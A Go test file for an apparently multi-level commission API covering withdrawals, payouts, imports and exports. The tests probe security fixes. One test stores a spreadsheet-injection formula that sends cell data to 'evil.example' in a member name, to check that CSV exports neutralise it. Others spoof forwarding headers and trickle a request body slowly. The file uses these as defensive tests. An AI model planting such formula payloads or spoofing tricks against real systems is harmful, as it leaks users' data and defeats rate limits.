package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// race sends the calls at once and returns their statuses in the same order.
func race(calls ...func() int) []int {
	out := make([]int, len(calls))
	var wg sync.WaitGroup
	start := make(chan struct{})
	for i, c := range calls {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			out[i] = c()
		}()
	}
	close(start)
	wg.Wait()
	return out
}

func oks(codes []int) int {
	n := 0
	for _, c := range codes {
		if c == 200 {
			n++
		}
	}
	return n
}

// withdrawal finds one withdrawal in the admin list.
func (hs *harness) withdrawal(id string) map[string]any {
	hs.t.Helper()
	_, p := hs.call("GET", "/api/v1/withdrawals?limit=1000", nil)
	for _, x := range items(p) {
		if x["id"] == id {
			return x
		}
	}
	hs.t.Fatalf("withdrawal %s not listed", id)
	return nil
}

// Decisions on one withdrawal race. Of reject against mark-paid on an approved withdrawal exactly
// one wins; of two approvals and a rejection on a requested one, at most one approval wins and
// the status is that of the last decision that won. Either way the ledger holds exactly the
// outcome (never paid and refunded, never approved with the amount back).
func TestConcurrentWithdrawalDecisionsOneWins(t *testing.T) {
	hs := newHarness(t)
	hs.register("A", "consultant", "root", at("root", "left"))
	if code, b := hs.call("POST", "/api/v1/members/A/wallet/adjustments", map[string]any{"amount": "10000.00", "reason": "test funds"}); code != 201 {
		t.Fatalf("adjust: %d %v", code, b)
	}
	hs.clear("A")
	balance, rejected := 1000000, 0 // cents
	decide := func(id, d string, body map[string]any) func() int {
		return func() int { c, _ := hs.call("POST", "/api/v1/withdrawals/"+id+"/"+d, body); return c }
	}
	for round := 0; round < 12; round++ {
		_, wd := hs.call("POST", "/api/v1/members/A/withdrawals", map[string]any{"amount": "50.00"})
		id, _ := wd["id"].(string)
		if id == "" {
			t.Fatalf("round %d: request %v", round, wd)
		}
		balance -= 5000
		var codes []int
		var want string
		if round%2 == 0 {
			if code, _ := hs.call("POST", "/api/v1/withdrawals/"+id+"/approve", nil); code != 200 {
				t.Fatalf("approve: %d", code)
			}
			codes = race(decide(id, "reject", map[string]any{"reason": "x"}), decide(id, "mark-paid", map[string]any{"payment_reference": "P"}),
				decide(id, "reject", map[string]any{"reason": "y"}))
			if oks(codes) != 1 {
				t.Errorf("round %d: %v — exactly one decision wins", round, codes)
			}
			want = "paid"
			if codes[0] == 200 || codes[2] == 200 {
				want = "rejected"
			}
		} else {
			codes = race(decide(id, "approve", nil), decide(id, "reject", map[string]any{"reason": "x"}), decide(id, "approve", nil))
			if codes[0] == 200 && codes[2] == 200 {
				t.Errorf("round %d: %v — two approvals won", round, codes)
			}
			want = "approved"
			if codes[1] == 200 {
				want = "rejected"
			}
		}
		for _, c := range codes {
			if c != 200 && c != 409 {
				t.Errorf("round %d: a losing decision is a 409, not %d", round, c)
			}
		}
		if got := hs.withdrawal(id)["status"]; got != want {
			t.Errorf("round %d: %v ended %v, want %s", round, codes, got, want)
		}
		switch want {
		case "rejected":
			balance += 5000
			rejected++
		case "approved": // leave no open request behind for the next round
			if c, _ := hs.call("POST", "/api/v1/withdrawals/"+id+"/mark-paid", map[string]any{"payment_reference": "P2"}); c != 200 {
				t.Fatalf("round %d: pay the approved: %d", round, c)
			}
		}
	}
	_, w := hs.call("GET", "/api/v1/members/A/wallet?limit=1000", nil)
	if want := fmt.Sprintf("%d.%02d", balance/100, balance%100); w["balance"] != want {
		t.Errorf("balance %v, want %s", w["balance"], want)
	}
	reversals := 0
	for _, e := range w["entries"].([]any) {
		if e.(map[string]any)["kind"] == "reversal" {
			reversals++
		}
	}
	if reversals != rejected {
		t.Errorf("%d reversals for %d rejected withdrawals", reversals, rejected)
	}
}

// Issue #14, finding 2: an import into a network with sales of its own sets no cutover, so the
// sales it took stay payable; an explicit cutover there is refused.
func TestImportIntoALiveNetworkKeepsSalesPayable(t *testing.T) {
	hs := newHarness(t)
	hs.register("A", "consultant", "root", at("root", "left"))
	hs.register("B", "consultant", "A", at("A", "left"))
	draft := func() string {
		code, d := hs.call("POST", "/api/v1/payout-runs", map[string]any{"period_end": "2026-01-12T00:00:00Z"})
		if code != 201 {
			t.Fatalf("draft: %d %v", code, d)
		}
		return d["totals"].(map[string]any)["total"].(string)
	}
	before := draft()
	if before == "0.00" {
		t.Fatal("the packs pay direct bonuses")
	}
	line := ndjson(`{"id":"I1","name":"Iris","email":"i1@example.com","plan":"consultant","sponsor_id":"A","placement":{"parent_id":"A","leg":"right"},"registered_at":"2026-01-02T00:00:00Z"}`)
	if code, b := hs.raw("POST", "/api/v1/members/import?cutover=2026-01-05T00:00:00Z", "application/x-ndjson", line); code != 409 {
		t.Errorf("an explicit cutover on a live network: %d %v", code, b)
	}
	code, b := hs.raw("POST", "/api/v1/members/import", "application/x-ndjson", line)
	if code != 202 {
		t.Fatalf("import: %d %v", code, b)
	}
	if job := hs.waitImport(b["id"].(string)); job["status"] != "done" || job["cutover"] != nil {
		t.Errorf("no cutover on a live network: %v", job)
	}
	if after := draft(); after != before {
		t.Errorf("the draft paid %s before the import and %s after", before, after)
	}
}

// Issue #14, finding 3: a back-dated registration under a later placement parent is refused,
// whichever way the parent is chosen, and payouts keep working.
func TestBackDatedRegistrationCannotBlockPayouts(t *testing.T) {
	hs := newHarness(t)
	code, _ := hs.call("POST", "/api/v1/members", map[string]any{"id": "late", "name": "Late", "email": "late@example.com", "plan": "consultant",
		"sponsor_id": "root", "placement": at("root", "right"), "registered_at": "2026-01-03T00:00:00Z"})
	if code != 201 {
		t.Fatal("register late")
	}
	for _, p := range []map[string]any{at("late", "left"), strategy("extreme_right")} {
		code, b := hs.call("POST", "/api/v1/members", map[string]any{"id": "early", "name": "Early", "email": "early@example.com", "plan": "consultant",
			"sponsor_id": "root", "placement": p, "registered_at": "2026-01-02T00:00:00Z"})
		if _, _, fields := errOf(b); code != 422 || len(fields) != 1 || fields[0] != "registered_at" {
			t.Errorf("placement %v: %d %v", p, code, b)
		}
	}
	if code, b := hs.call("POST", "/api/v1/payout-runs", map[string]any{"period_end": "2026-01-05T00:00:00Z"}); code != 201 {
		t.Errorf("payouts still work: %d %v", code, b)
	}
}

// Issue #14, finding 4: amounts have a maximum, so no balance can overflow.
func TestAmountsHaveAMaximum(t *testing.T) {
	hs := newHarness(t)
	hs.register("A", "consultant", "root", at("root", "left"))
	for _, amt := range []string{"50000000000000000.00", "1000000000.01", "-1000000000.01"} {
		if code, b := hs.call("POST", "/api/v1/members/A/wallet/adjustments", map[string]any{"amount": amt, "reason": "x"}); code != 422 {
			t.Errorf("adjust %s: %d %v", amt, code, b)
		}
	}
	for i := 0; i < 2; i++ {
		if code, b := hs.call("POST", "/api/v1/members/A/wallet/adjustments", map[string]any{"amount": "1000000000.00", "reason": "max"}); code != 201 {
			t.Fatalf("adjust at the maximum: %d %v", code, b)
		}
	}
	if _, w := hs.call("GET", "/api/v1/members/A/wallet", nil); w["balance"] != "2000000000.00" {
		t.Errorf("balance %v", w["balance"])
	}
	if code, _ := hs.call("POST", "/api/v1/members/A/withdrawals", map[string]any{"amount": "92233720368547000.00"}); code != 422 {
		t.Errorf("a withdrawal beyond the maximum: %d", code)
	}
	hs.vendor("v")
	if code, _ := hs.call("PUT", "/api/v1/vendors/v/products/BIG", map[string]any{"bv": "1000000000.01", "cv": "1", "retail_commission": "1"}); code != 422 {
		t.Errorf("a product beyond the maximum: %d", code)
	}
}

// Issue #14, finding 10: search text is searched for, whatever it holds.
func TestArticleSearchTakesAnyText(t *testing.T) {
	hs := newHarness(t)
	if code, b := hs.call("POST", "/api/v1/kb/articles", map[string]any{"title": "Solar and batteries", "body_markdown": "Panels AND storage", "audience": "all", "status": "published"}); code != 201 {
		t.Fatalf("article: %d %v", code, b)
	}
	for _, q := range []string{"AND", "OR", "NOT", "solar AND", "and", "the", "TO", "solar OR", `"unclosed`, "a:b", "(", "\\", "*", "NOT solar"} {
		if code, b := hs.call("GET", "/api/v1/kb/articles?q="+url.QueryEscape(q), nil); code != 200 {
			t.Errorf("q=%q: %d %v", q, code, b)
		}
	}
	if _, b := hs.call("GET", "/api/v1/kb/articles?q="+url.QueryEscape("solar AND"), nil); len(items(b)) != 1 {
		t.Errorf("the words still find the article: %v", b)
	}
}

// callFrom sends JSON without a token from a remote address, with extra headers.
func (hs *harness) callFrom(remote string, headers map[string]string, method, path string, body any) (int, map[string]any, http.Header) {
	hs.t.Helper()
	data, _ := json.Marshal(body)
	req := httptest.NewRequest(method, path, bytes.NewReader(data))
	req.RemoteAddr = remote
	req.Header.Set("Content-Type", "application/json")
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	hs.h.ServeHTTP(w, req)
	var out map[string]any
	_ = json.Unmarshal(w.Body.Bytes(), &out)
	return w.Code, out, w.Header()
}

// Issue #14, findings 5 and 6: forwarding headers are ignored unless a proxy is trusted, so the
// per-address limit holds; and parallel attempts on one account never exceed its limit.
func TestLoginLimitsHoldAgainstHeadersAndParallelAttempts(t *testing.T) {
	hs := newHarness(t) // 3 failures per account, 20 per address
	limited := 0
	for i := 0; i < 25; i++ {
		code, _, _ := hs.callFrom("203.0.113.9:4000", map[string]string{"X-Forwarded-For": fmt.Sprintf("10.1.%d.%d", i, i), "X-Real-IP": fmt.Sprintf("10.2.0.%d", i)},
			"POST", "/api/v1/auth/login", map[string]any{"email": fmt.Sprintf("nobody%d@example.com", i), "password": "wrong-password"})
		if code == 429 {
			limited++
		}
	}
	if limited != 5 {
		t.Errorf("%d of 25 attempts from one address were limited, want the 5 beyond its 20", limited)
	}
	hs.register("A", "consultant", "root", at("root", "left"))
	calls := make([]func() int, 40)
	for i := range calls {
		calls[i] = func() int {
			c, _, _ := hs.callFrom(fmt.Sprintf("198.51.100.%d:4000", i), nil, "POST", "/api/v1/auth/login", map[string]any{"email": "A@example.com", "password": "wrong-password"})
			return c
		}
	}
	evaluated := 0
	for _, c := range race(calls...) {
		if c == 401 {
			evaluated++
		} else if c != 429 {
			t.Errorf("status %d", c)
		}
	}
	if evaluated != 3 {
		t.Errorf("%d of 40 parallel attempts were evaluated, want 3", evaluated)
	}
}

// Issue #14, finding 7: every route bounds its body (413 in the API shape), and a body sent too
// slowly loses its connection.
func TestBodiesAreBoundedAndSlowSendersCutOff(t *testing.T) {
	hs := newHarness(t)
	big := `{"referral_code":"root","id":"x","name":"` + strings.Repeat("a", 2<<20) + `"}`
	for _, path := range []string{"/api/v1/join", "/api/v1/auth/login", "/api/v1/members"} {
		status, b := hs.raw("POST", path, "application/json", big)
		if code, _, _ := errOf(b); status != 413 || code != "too_large" {
			t.Errorf("%s: %d %v", path, status, b)
		}
	}
	// A real connection: the body trickles in, the server gives up after the read timeout.
	srv := hs.app.API()
	srv.ReadTimeout = 300 * time.Millisecond
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	conn, err := net.Dial("tcp", ts.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
	start := time.Now()
	closed := false
	for i := 0; i < 20 && !closed; i++ {
		time.Sleep(100 * time.Millisecond)
		if _, err := conn.Write([]byte(" ")); err != nil {
			closed = true
		}
		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
		if n, err := conn.Read(make([]byte, 512)); n > 0 || (err != nil && !errors.Is(err, os.ErrDeadlineExceeded)) {
			closed = true
		}
	}
	if !closed || time.Since(start) > 1500*time.Millisecond {
		t.Errorf("a trickling body held the connection for %s", time.Since(start))
	}
}

// Issue #14, finding 8: exports neutralise cells a spreadsheet would run as formulas.
func TestExportsNeutraliseFormulas(t *testing.T) {
	hs := newHarness(t)
	evil := `=HYPERLINK("https://evil.example/?x="&B2,"Open")`
	if code, b := hs.call("POST", "/api/v1/members", map[string]any{"id": "E", "name": evil, "email": "e@example.com", "plan": "consultant", "sponsor_id": "root",
		"placement": at("root", "left"), "registered_at": "2026-01-01T01:00:00Z"}); code != 201 {
		t.Fatalf("register: %d %v", code, b)
	}
	start := time.Now().Add(48 * time.Hour).UTC().Format(time.RFC3339)
	_, ev := hs.call("POST", "/api/v1/events", map[string]any{"title": "Rally", "format": "in_person", "location": "Austin", "starts_at": start,
		"duration_minutes": 60, "status": "published", "audience": "all"})
	if code, b := hs.call("POST", "/api/v1/events/"+ev["id"].(string)+"/registrations", map[string]any{"member_id": "E"}); code != 201 {
		t.Fatalf("registration: %d %v", code, b)
	}
	_, sheet := hs.csv("/api/v1/events/" + ev["id"].(string) + "/export.csv")
	hs.call("POST", "/api/v1/members/E/wallet/adjustments", map[string]any{"amount": "100.00", "reason": "x"})
	hs.clear("E")
	_, wd := hs.call("POST", "/api/v1/members/E/withdrawals", map[string]any{"amount": "60.00"})
	hs.call("POST", "/api/v1/withdrawals/"+wd["id"].(string)+"/approve", nil)
	_, payments := hs.csv("/api/v1/withdrawals/export.csv")
	for name, text := range map[string]string{"registrations": sheet, "withdrawals": payments} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %v %q", name, err, text)
		}
		found := false
		for _, cell := range rows[1] {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(cell, "'=") {
					t.Errorf("%s: %q is not neutralised", name, cell)
				}
			}
		}
		if !found {
			t.Errorf("%s: the name is missing: %v", name, rows[1])
		}
	}
}

// Issue #14, findings 9 and 13: one bad event (a 33,000-character name) is rejected alone, and a
// vendor cannot report services for a customer that never signed up with it.
func TestIngestRejectsOneBadEventAndUnlinkedCustomers(t *testing.T) {
	hs := newHarness(t)
	hs.register("A", "consultant", "root", at("root", "left"))
	hs.register("cu", "customer", "A", nil)
	sun := hs.vendor("sun")
	long := signup("e1", "c1", "A")
	long["data"].(map[string]any)["name"] = strings.Repeat("n", 33000)
	code, b := hs.send("sun", sun, events(long, signup("e2", "c2", "A"), activated("e3", "a1", "cu", "SOLAR-6KW", "2026-02-02T10:00:00Z")), 0)
	if want := "rejected(invalid) accepted rejected(invalid)"; code != 200 || statuses(b) != want {
		t.Errorf("%d %s, want %s (%v)", code, statuses(b), want, b)
	}
}

// Issue #14, findings 11–13: /join is throttled per address; messages about a malformed body name
// no Go types; a null track is refused, not an empty one; answers are neither sniffed nor cached.
func TestJoinThrottleMessagesTrackAndHeaders(t *testing.T) {
	hs := newHarness(t)
	throttled := 0
	for i := 0; i < 12; i++ {
		code, _, _ := hs.callFrom("203.0.113.50:4000", nil, "POST", "/api/v1/join", map[string]any{"referral_code": "root", "id": fmt.Sprintf("J%d", i),
			"name": "J", "email": fmt.Sprintf("j%d@example.com", i), "password": "long-enough-1", "plan": "consultant"})
		if code == 429 {
			throttled++
		}
	}
	if throttled != 2 {
		t.Errorf("%d of 12 self-registrations from one address were throttled, want 2", throttled)
	}
	code, b, h := hs.callFrom("203.0.113.51:4000", nil, "POST", "/api/v1/join", map[string]any{"referral_code": 7})
	if _, msg, _ := errOf(b); code != 400 || strings.Contains(msg, "Go ") || strings.Contains(msg, "struct") || !strings.Contains(msg, "referral_code must be a string") {
		t.Errorf("a wrong type: %d %q", code, msg)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
		t.Errorf("headers: %v", h)
	}
	if code, b := hs.raw("PUT", "/api/v1/onboarding/track", "application/json", "null"); code != 422 {
		t.Errorf("a null track: %d %v", code, b)
	}
	sun := hs.vendor("sun")
	if code, b := hs.send("sun", sun, []byte(`{"events":"all of them"}`), 0); code != 400 || strings.Contains(fmt.Sprint(b), "RawMessage") {
		t.Errorf("a malformed ingest body: %d %v", code, b)
	}
}

// Payment confirmation of a self-registered pack: of N parallel confirmations exactly one wins,
// and the pack becomes one sale.
func TestConcurrentPaymentConfirmationsOneWins(t *testing.T) {
	hs := newHarness(t)
	code, b, _ := hs.callFrom("203.0.113.60:4000", nil, "POST", "/api/v1/join", map[string]any{"referral_code": "root", "id": "J1", "name": "Jo",
		"email": "j1@example.com", "password": "long-enough-1", "plan": "consultant"})
	if code != 201 {
		t.Fatalf("join: %d %v", code, b)
	}
	calls := make([]func() int, 10)
	for i := range calls {
		calls[i] = func() int {
			c, _ := hs.call("POST", "/api/v1/members/J1/confirm-payment", map[string]any{"payment_reference": fmt.Sprintf("PSP-%d", i)})
			return c
		}
	}
	codes := race(calls...)
	if oks(codes) != 1 {
		t.Errorf("%v: exactly one confirmation wins", codes)
	}
	for _, c := range codes {
		if c != 200 && c != 409 {
			t.Errorf("a losing confirmation is a 409, not %d", c)
		}
	}
	if n, _ := hs.st.CountForTests(t.Context(), "MATCH (s:Sale {id: 'pack:J1'}) WHERE s.pending IS NULL RETURN count(s) AS n"); n != 1 {
		t.Errorf("%d confirmed pack sales", n)
	}
	_, audit := hs.call("GET", "/api/v1/audit?action=member.confirm_pack", nil)
	if len(items(audit)) != 1 {
		t.Errorf("%d confirmations audited", len(items(audit)))
	}
}

// Issue #15, PLAN.md §9 through the API: a product's hold_days delays its activations to the
// first run whose end is past the window; a cancellation inside the window voids it.
func TestHoldsThroughTheAPI(t *testing.T) {
	hs := newHarness(t)
	hs.register("A", "consultant", "root", at("root", "left"))
	hs.register("cu", "customer", "A", nil)
	sun := hs.vendor("sun")
	if code, b := hs.call("PUT", "/api/v1/vendors/sun/products/SOLAR-H", map[string]any{"bv": "400", "cv": "1200.00", "retail_commission": "300.00",
		"hold_days": 15, "effective_from": "2020-01-01T00:00:00Z"}); code != 422 {
		t.Errorf("hold_days 15: %d %v", code, b)
	}
	if code, b := hs.call("PUT", "/api/v1/vendors/sun/products/SOLAR-H", map[string]any{"bv": "400", "cv": "1200.00", "retail_commission": "300.00",
		"hold_days": 3, "effective_from": "2020-01-01T00:00:00Z"}); code != 200 {
		t.Fatalf("product: %d %v", code, b)
	}
	_, p := hs.call("GET", "/api/v1/vendors/sun/products", nil)
	if !strings.Contains(fmt.Sprint(p), "hold_days:3") {
		t.Errorf("products show hold_days: %v", p)
	}
	link := signup("s0", "cu", "A")
	link["occurred_at"] = "2026-01-02T00:00:00Z"
	if code, b := hs.send("sun", sun, events(link, activated("e1", "h1", "cu", "SOLAR-H", "2026-01-10T12:00:00Z"),
		activated("e2", "h2", "cu", "SOLAR-H", "2026-01-10T12:00:00Z"), cancelled("x2", "h2", "2026-01-11T00:00:00Z")), 0); code != 200 || strings.Contains(statuses(b), "rejected") {
		t.Fatalf("ingest: %d %v", code, b)
	}
	// The consultant sees the held sale and when it releases (§9); the cancelled one is gone.
	_, dash := hs.call("GET", "/api/v1/members/A/dashboard", nil)
	hl, _ := dash["held_sales"].([]any)
	if len(hl) != 1 || hl[0].(map[string]any)["sale_id"] == nil || hl[0].(map[string]any)["releases_at"] != "2026-01-13T12:00:00Z" || hl[0].(map[string]any)["member_id"] != "cu" {
		t.Errorf("held sales on the dashboard: %v", dash["held_sales"])
	}
	retail := func(end string) string {
		_, d := hs.call("POST", "/api/v1/payout-runs", map[string]any{"period_end": end})
		id := d["id"].(string)
		hs.call("POST", "/api/v1/payout-runs/"+id+"/commit", nil)
		return d["totals"].(map[string]any)["by_type"].(map[string]any)["retail"].(string)
	}
	if r := retail("2026-01-12T00:00:00Z"); r != "0.00" {
		t.Errorf("inside the window nothing is paid: retail %s", r)
	}
	if r := retail("2026-01-19T00:00:00Z"); r != "300.00" {
		t.Errorf("the next run pays h1 only (h2 was cancelled in its window: void): retail %s", r)
	}
}
